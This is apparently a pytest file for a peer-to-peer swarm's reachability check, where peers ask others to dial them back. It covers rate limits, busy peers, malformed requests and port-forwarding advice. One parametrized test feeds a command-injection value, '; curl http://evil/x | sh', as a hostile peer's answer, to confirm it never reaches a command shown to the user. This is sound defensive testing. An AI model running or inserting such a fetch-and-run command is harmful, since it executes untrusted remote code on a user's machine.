"""Peers that ask others to dial them: real p2pds on loopback."""

import asyncio
import json
import logging

import pytest
from hivemind.p2p import P2P
from hivemind.utils.multiaddr import Multiaddr

from swarm import reachability
from swarm.daemon import Daemon
from swarm.ports import free_port
from swarm.reachability import DIAL_ME, Finding, at_its_own_address, explain
from tests.swarm import p2pds
from tests.swarm.conftest import scenes

NOBODY_LISTENS = "/ip4/127.0.0.1/tcp/9"


def test_a_peer_that_others_can_dial_stays_a_node_and_so_does_the_first(nodes):
    async def scenario(start):
        first = await start("first", client_mode=None)
        second = await start("second", initial_peers=await first.maddrs(), client_mode=None)
        assert not first.client_mode and not second.client_mode and await second.maddrs()

    nodes(scenario)


def test_a_peer_that_others_cannot_dial_becomes_a_client_and_says_why(nodes, caplog):
    async def scenario(start):
        one = await start("one")
        with caplog.at_level(logging.INFO, "swarm.dht"):
            hidden = await start("hidden", initial_peers=await one.maddrs(), announce_maddrs=[NOBODY_LISTENS], client_mode=None)
        assert hidden.client_mode and await hidden.maddrs() == []
        assert "client mode, because others cannot dial this peer: 1 of 1 peers asked could not dial it" in caplog.text
        assert "open TCP port 9 in this machine's firewall" in caplog.text

    nodes(scenario)


def test_a_forwarded_port_that_is_not_announced_is_named(nodes, caplog):
    async def scenario(start):
        one, port = await start("one"), free_port()
        places = {"host_maddrs": [f"/ip4/127.0.0.1/tcp/{port}"], "announce_maddrs": [f"/ip4/10.255.255.1/tcp/{port}"]}
        with caplog.at_level(logging.INFO, "swarm.dht"):
            hidden = await start("hidden", initial_peers=await one.maddrs(), client_mode=None, **places)
        assert hidden.client_mode
        assert f"it answers at /ip4/127.0.0.1/tcp/{port} and does not announce that" in caplog.text

    nodes(scenario)


def test_what_the_user_says_is_not_questioned(nodes):
    async def scenario(start):
        one = await start("one")
        told = await start("told", initial_peers=await one.maddrs(), announce_maddrs=[NOBODY_LISTENS], client_mode=False)
        assert not told.client_mode

    nodes(scenario)


def test_whoever_cannot_tell_does_not_count(nodes):
    async def scenario(start):
        one = await start("one")
        await one.p2p._client.remove_unary_handler(DIAL_ME)  # a program that knows no such question
        peer = await start("peer", initial_peers=await one.maddrs(), announce_maddrs=[NOBODY_LISTENS], client_mode=None)
        assert not peer.client_mode

    nodes(scenario)


@pytest.fixture
def nodes(tmp_path):
    """With p2pds of their own but for "one": all who are connected are asked, and an earlier test's p2pd once dialled a lent one.

    Whom "one" has met ended with its test, so it dials nobody.
    """
    return scenes(tmp_path, p2pds.keeper("of reachability"), lends="one".__eq__)


@pytest.fixture
def busy(monkeypatch):
    """All are too busy to dial anybody; asked again every 0.2 s."""
    monkeypatch.setattr(reachability, "_QUEUE", 0)
    monkeypatch.setattr(reachability, "_AGAIN_SECONDS", 0.2)


def test_busy_peers_are_asked_again_until_one_can_tell(nodes, busy, monkeypatch, caplog):
    async def scenario(start):
        one = await start("one")
        monkeypatch.setattr(reachability, "_all_loopback", lambda maddrs: False)
        with caplog.at_level(logging.INFO, "swarm"):
            joining = asyncio.create_task(
                start("hidden", initial_peers=await one.maddrs(), announce_maddrs=[NOBODY_LISTENS], client_mode=None)
            )
            while "asking again" not in caplog.text:
                await asyncio.sleep(0.05)
            monkeypatch.setattr(reachability, "_QUEUE", 2)
            assert (await joining).client_mode
        assert "1 of 1 peers asked could not dial it" in caplog.text

    nodes(scenario)


def test_a_peer_goes_on_as_a_client_when_all_stay_busy(nodes, busy, monkeypatch, caplog):
    async def scenario(start):
        one = await start("one")
        monkeypatch.setattr(reachability, "_all_loopback", lambda maddrs: False)
        monkeypatch.setattr(reachability, "_PATIENCE_SECONDS", 1.0)
        peer = await start("peer", initial_peers=await one.maddrs(), announce_maddrs=[NOBODY_LISTENS], client_mode=None)
        assert peer.client_mode and await peer.maddrs() == []
        assert "not known" in peer.reachability and "client mode" in peer.reachability and "--client_mode False" in peer.reachability

    nodes(scenario)


def test_a_budget_that_strangers_use_up_makes_nobody_dialable(nodes, monkeypatch):
    monkeypatch.setattr(reachability, "_PER_MINUTE_AND_ASKER", 1)

    async def scenario(start):
        one = await start("one")
        stranger = await start("stranger", initial_peers=await one.maddrs())
        ask = stranger.p2p._client.call_unary_handler
        place = [str(maddr).rsplit("/p2p/", 1)[0] for maddr in await stranger.maddrs()]
        said = [json.loads(await ask(one.p2p.peer_id, DIAL_ME, json.dumps(place).encode())) for _ in range(2)]
        assert [answer["reached"] in place for answer in said] == [True, False] and said[1]["busy"]
        monkeypatch.setattr(reachability, "_all_loopback", lambda maddrs: False)
        monkeypatch.setattr(reachability, "_PATIENCE_SECONDS", 0.5)
        await stranger.close()
        newcomer = await start("newcomer", initial_peers=await one.maddrs(), announce_maddrs=[NOBODY_LISTENS], client_mode=None)
        assert newcomer.client_mode

    nodes(scenario)


def test_others_are_asked_when_those_asked_first_are_busy(nodes, busy, monkeypatch):
    async def scenario(start):
        one, asked = await start("one"), []
        two = await start("two", initial_peers=await one.maddrs())
        me = await start("me", initial_peers=[*await one.maddrs(), *await two.maddrs()])

        async def answer(p2p, peer, maddrs):
            asked.append(peer)
            return None, len(asked) == 1

        monkeypatch.setattr(reachability, "_all_loopback", lambda maddrs: False)
        monkeypatch.setattr(reachability, "_ASKED", 1)
        monkeypatch.setattr(reachability, "_ask", answer)
        assert await reachability.find_out(me.p2p, [NOBODY_LISTENS]) == Finding(answers=0)
        first, second, *again = asked
        assert first != second, "the second one knows no such question"
        assert again in ([first], [second, first]), "of two that were asked as often p2pd names any first"

    nodes(scenario)


def test_busy_peers_of_this_machine_are_not_asked_again(nodes, busy, caplog):
    async def scenario(start):
        one = await start("one")
        with caplog.at_level(logging.INFO, "swarm"):
            peer = await start("peer", initial_peers=await one.maddrs(), client_mode=None)
        assert not peer.client_mode and "not known" in peer.reachability
        assert "asking again" not in caplog.text

    nodes(scenario)


def test_who_does_not_answer_in_time_is_asked_again(nodes, monkeypatch):
    async def scenario(start):
        one, asked = await start("one"), []
        two = await start("two", initial_peers=await one.maddrs())

        async def slow(request, caller):
            asked.append(caller)
            await asyncio.sleep(60 if len(asked) == 1 else 0)
            return json.dumps({"reached": ""}).encode()

        await one.p2p._client.remove_unary_handler(DIAL_ME)
        await one.p2p._client.add_unary_handler(DIAL_ME, slow)
        monkeypatch.setattr(reachability, "_all_loopback", lambda maddrs: False)
        monkeypatch.setattr(reachability, "_AGAIN_SECONDS", 0.1)
        monkeypatch.setattr(reachability, "ASK_SECONDS", 2.0)
        assert await reachability.find_out(two.p2p, [NOBODY_LISTENS]) == Finding(answers=1, reached=0)
        assert len(asked) == 2

    nodes(scenario)


MALFORMED = (b"", b"[", b"{}", b'["garbage"]', b"[7]", b" " * 5000, json.dumps(["/ip4/198.18.0.1/tcp/1"]).encode())


def test_a_malformed_question_harms_nobody(nodes):
    async def scenario(start):
        one = await start("one")
        two = await start("two", initial_peers=await one.maddrs())
        places = [str(m).rsplit("/p2p/", 1)[0] for m in await two.maddrs()]
        for question in MALFORMED:
            try:
                answer = json.loads(await two.p2p._client.call_unary_handler(one.p2p.peer_id, DIAL_ME, question))
                assert answer["reached"] in (None, ""), question
            except Exception as error:
                assert "P2PHandlerError" in repr(error), question
        assert (await reachability.find_out(two.p2p, places)).reached == 1

    nodes(scenario)


@pytest.mark.parametrize("reached", ["/ip4/1.2.3.4/tcp/1; curl http://evil/x | sh", "\x1b[2J", "/ip4/1.2.3.4/tcp/1\n", "x" * 5000, 7])
def test_what_a_stranger_calls_an_address_does_not_reach_the_owner(nodes, monkeypatch, reached):
    """It stood in a command that the owner was told to run."""

    async def scenario(start):
        one = await start("one")
        two = await start("two", initial_peers=await one.maddrs())

        async def lie(*_):
            return json.dumps({"reached": reached}).encode()

        monkeypatch.setattr(two.p2p._client, "call_unary_handler", lie)
        assert await reachability._ask(two.p2p, one.p2p.peer_id, ["/ip4/198.18.0.1/tcp/1"]) == (None, False)

    nodes(scenario)


def test_another_peer_at_the_address_is_not_taken_for_the_one_who_asks(nodes):
    async def scenario(start):
        one = await start("one")
        two = await start("two", initial_peers=await one.maddrs())
        others = [str(maddr).rsplit("/p2p/", 1)[0] for maddr in await one.maddrs()]
        assert await reachability.find_out(two.p2p, others) == Finding(answers=1, reached=0)

    nodes(scenario)


SEEN = ["203.0.113.7"]


@pytest.mark.parametrize(
    ("asked", "announced", "guessed"),
    [
        (["/ip4/203.0.113.7/tcp/1"], ["/ip4/203.0.113.7/tcp/1"], []),
        (["/ip4/192.168.1.5/tcp/1", "/ip4/127.0.0.1/tcp/1"], [], ["/ip4/203.0.113.7/tcp/1"]),
        (["/ip4/192.168.1.5/tcp/1", "/ip4/203.0.113.7/tcp/1"], ["/ip4/203.0.113.7/tcp/1"], []),
        (["/ip4/8.8.8.8/tcp/53"], [], []),
        (["/dns4/example.org/tcp/80"], [], []),
        (["/ip4/203.0.113.7/tcp/1/p2p-circuit"], [], []),
        (["/ip4/203.0.113.7/tcp/1", "/ip4/8.8.8.8/tcp/53"], [], []),
        (["/ip6/fe80::1/tcp/1"], [], []),
    ],
)
def test_only_the_callers_own_address_is_dialled(asked, announced, guessed):
    found = at_its_own_address(map(Multiaddr, asked), SEEN)
    assert [[str(maddr) for maddr in maddrs] for maddrs in found] == [announced, guessed]


@pytest.mark.parametrize(
    ("reached", "answers", "unreachable"), [(0, 0, False), (0, 1, True), (1, 1, False), (1, 2, True), (2, 3, False), (1, 3, True)]
)
def test_most_of_those_who_can_tell_decide(reached, answers, unreachable):
    assert Finding(answers, reached).unreachable is unreachable


def test_only_busy_is_taken_for_no_and_nobody_there_is_not():
    assert Finding(busy=True).unreachable and not Finding().unreachable


def test_daemons_that_start_at_once_leave_asyncio_as_it_was(nodes):
    before = asyncio.subprocess.create_subprocess_exec

    async def scenario(start):
        daemons = await asyncio.gather(*(Daemon.start(host_maddrs=None, no_listen=True) for _ in range(3)))
        assert all(isinstance(daemon.p2p, P2P) for daemon in daemons)
        await asyncio.gather(*(daemon.close() for daemon in daemons))

    nodes(scenario)
    assert asyncio.subprocess.create_subprocess_exec is before


def test_what_was_found_is_explained_with_the_port_to_forward_and_where_to():
    maddrs = ["/ip4/192.168.1.5/tcp/41000", "/ip4/127.0.0.1/tcp/41000", "/ip6/::1/tcp/41001"]
    hidden = explain(Finding(3, 0), maddrs)
    assert "3 of 3 who tried did not get through" in hidden and "client mode" in hidden and "training works" in hidden
    assert "forward TCP port 41000 on the router to this machine (192.168.1.5)" in hidden
    assert "--host_maddrs /ip4/0.0.0.0/tcp/41000 --announce_maddrs /ip4/YOUR-PUBLIC-IP/tcp/41000" in hidden


def test_a_peer_that_can_be_dialled_is_told_so_and_one_that_nobody_tried_is_not():
    assert explain(Finding(3, 2), ["/ip4/203.0.113.7/tcp/41000"]) == (
        "others can dial this peer: 2 of 3 who tried got through (/ip4/203.0.113.7/tcp/41000)"
    )
    assert "not known" in explain(Finding(), [])


def test_a_port_that_is_forwarded_already_needs_only_to_be_announced():
    said = explain(Finding(1, 0, "/ip4/203.0.113.7/tcp/41000"), ["/ip4/192.168.1.5/tcp/41000"])
    assert "only at /ip4/203.0.113.7/tcp/41000" in said and said.endswith("--announce_maddrs /ip4/203.0.113.7/tcp/41000")


def test_without_an_address_of_its_own_the_advice_names_a_usual_port():
    assert "forward TCP port 31338 on the router to this machine. Then" in explain(Finding(1, 0), ["/dns4/home.example/tcp/1"])


def test_a_flood_of_questions_by_several_identities_starts_a_few_p2pds_one_at_a_time(nodes, monkeypatch):
    started, running, most_at_once = 0, 0, 0
    dial = reachability._dial

    async def counted(caller, groups):
        nonlocal started, running, most_at_once
        started, running = started + 1, running + 1
        most_at_once = max(most_at_once, running)
        try:
            return await dial(caller, groups)
        finally:
            running -= 1

    async def scenario(start):
        one = await start("one")
        monkeypatch.setattr(reachability, "_dial", counted)
        strangers = [await start(f"stranger{i}", initial_peers=await one.maddrs()) for i in range(2)]
        places = {node: [str(maddr).rsplit("/p2p/", 1)[0] for maddr in await node.maddrs()] for node in strangers}

        async def flood(node):
            for _ in range(8):
                asked = [node.p2p._client.call_unary_handler(one.p2p.peer_id, DIAL_ME, json.dumps(places[node]).encode()) for _ in range(5)]
                for answer in await asyncio.gather(*asked):
                    assert json.loads(answer)["reached"] in (None, *places[node])

        for stranger in strangers:  # the second one when nobody else waits: else it is refused for that, whatever its budget
            await flood(stranger)
        assert started == 3 and most_at_once == 1, "both have one address; six a minute are answered in all"

    nodes(scenario)


@pytest.mark.parametrize("question", [b"[" * 4000, b'{"0": 1}', b"null", b"[[]]", b'["/ip4/1.2.3.4/tcp/99999999"]', b'["/ip4/\xff"]', b"7"])
def test_what_is_no_question_has_one_kind_of_error(question):
    with pytest.raises(ValueError, match="no question"):
        reachability._parse(question)
